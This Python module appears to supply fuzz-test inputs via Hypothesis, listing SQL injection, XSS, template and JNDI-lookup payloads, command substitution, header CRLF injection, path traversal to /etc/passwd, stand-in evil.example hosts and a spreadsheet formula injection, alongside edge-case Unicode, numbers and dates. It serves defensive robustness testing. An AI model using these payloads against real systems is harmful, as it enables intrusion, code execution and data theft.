"""Values that nobody means well: what stands in queries, pages, templates, headers and paths of other systems, text
at the edges of Unicode, numbers and JSON that parsers trip over.

In: a seed. Out: lists of values, drawn by Hypothesis: these ones, and such as it makes up itself.
"""

from typing import Any, Final, TypeVar

import hypothesis
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

Value = TypeVar("Value")

SQL: Final = (
    *("'", "''", "\\", "' OR '1'='1", "'; DROP TABLE sendings; --", '" OR 1=1 --', "$$; SELECT 1; $$", "$1"),
    *("1) UNION SELECT null, version() --", "%' AND 1=0 --", "%", "_", "a%_\\%", "/*", "E'\\x00'", "0x27"),
)
HTML: Final = (
    *(
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "' onmouseover='alert(1)",
        "<b>",
        "<!--",
    ),
    *("</textarea></title><svg onload=alert(1)>", "javascript:alert(1)", "-->]]><![CDATA[", "&lt;b&gt;&amp;"),
    *("</script><script src=//evil.example></script>", "<style>*{}</style>", '"autofocus onfocus="alert(1)'),
)
TEMPLATES: Final = (
    *("{{7*7}}", "{% raw %}", "{# x", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ self.__init__.__globals__ }}"),
    *(
        "%(x)s %s %d %",
        "{0} {x} {{}} {",
        "{phone}",
        "{{phone}}",
        "${jndi:ldap://evil.example/a}",
        "`id`",
        "$(id)",
    ),
)
HEADERS: Final = (
    *(
        "a\r\nX-Injected: 1",
        "a\nX-Injected: 1",
        "%0d%0aX-Injected:%201",
        "application/json; charset=",
        ";;;=,",
    ),
    *(
        "gzip, br",
        "text/event-stream",
        "Bearer",
        "*/*;q=x",
        "en-\0, tr;q=a",
        "bytes=0-,-1",
        "../../x",
        '"' * 50,
    ),
)
PATHS: Final = (
    *(
        "../../../../etc/passwd",
        "..%2f..%2f",
        "%2e%2e/",
        "....//",
        "%00",
        "%",
        "%zz",
        "%ff",
        "%c0%af",
        "//evil",
    ),
    *(
        "//evil.example",
        "/\\evil.example",
        "https://evil.example",
        "\\\\evil\\x",
        ".",
        "..",
        ";x",
        "?",
        "#",
        "/",
    ),
)
UNICODE: Final = (
    *("\0", "a\0b", "\ud800", "\udfff\ud800", "\ufeff", "\ufffe\uffff", "\u202ecilbup\u202c", "\u2028\u2029"),
    *(
        "👩‍👩‍👧‍👦",
        "ışıkĞÜŞİÖÇ",
        "e\u0301" * 80,
        "\u0344" * 160,
        "ﷺ" * 160,
        "\U0010ffff",
        "\x1b[31m",
        "\x7f\x80\x9f",
    ),
    *(
        "\u200b",
        "\u00a0",
        "\t",
        "\n",
        "\r",
        " ",
        "",
        "ſ",
        "ß" * 160,
        "İ" * 160,
        "٠١٢",
        "𝟗𝟎𝟓",
        "９０５５５０００００００",
    ),
)
NUMBERS: Final = (
    *(
        "-1",
        "-0",
        "0",
        "+1",
        "1e3",
        "1e400",
        "NaN",
        "Infinity",
        "-Infinity",
        "0x10",
        "1_000",
        "1,5",
        "١",
        "½",
    ),
    *(
        "9" * 19,
        "9" * 40,
        "9" * 4999,
        "2147483648",
        "9223372036854775807",
        "9223372036854775808",
        "0.0000001",
    ),
    *("99999999999999.999999", "1.", ".5", "٫5", "0" * 200, "--1", "1-1", "true", "null", "undefined"),
)
TIMES: Final = (
    *("0000-00-00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999Z", "9999-12-31T23:59:59-23:59", "now()"),
    *("0001-01-01T00:00:00+23:59", "2026-02-30", "2026-03-10T24:00:00Z", "2026-03-10T23:59:60Z", "-1-01-01"),
    *("2026-W10-1", "20260310T102231Z", "2026-03-10T10:22:31.3389999999999Z", "2026-03-10", "1773138151"),
)
LONG: Final = (
    "x" * 160,
    "x" * 161,
    "x" * 255,
    "x" * 256,
    "x" * 5000,
    "ğ" * 3000,
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
)

TEXTS: Final = (*SQL, *HTML, *TEMPLATES, *HEADERS, *PATHS, *UNICODE, *NUMBERS, *TIMES, *LONG)

ODD: Final[tuple[Any, ...]] = (
    *(None, True, False, 0, -1, 1.5, 10**18, 10**30, 10**400, -(10**400), float("nan"), float("inf"), 1e-300),
    *([], {}, [None], [[]], {"": None}, {"$ne": None}, {"__proto__": {}}, ["905550000000"] * 5000, [[["a"]]]),
    *({"a" * 5000: 1}, ["\0"], {"to": {"to": "x"}}, "905550000000"),
)

texts: Final = (
    st.sampled_from(TEXTS) | st.text(max_size=40) | st.text(st.characters(exclude_categories=["L"]))
)
json: Final = (
    texts
    | st.sampled_from(ODD)
    | st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | texts,
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
        max_leaves=8,
    )
)


def drawn(values: st.SearchStrategy[Value], seed: int, n: int) -> list[Value]:
    """At most so many values, the same for the same seed."""
    found: list[Value] = []

    @hypothesis.seed(seed)
    @settings(
        max_examples=n,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(values)
    def keep(value: Value) -> None:
        found.append(value)

    keep()
    return found
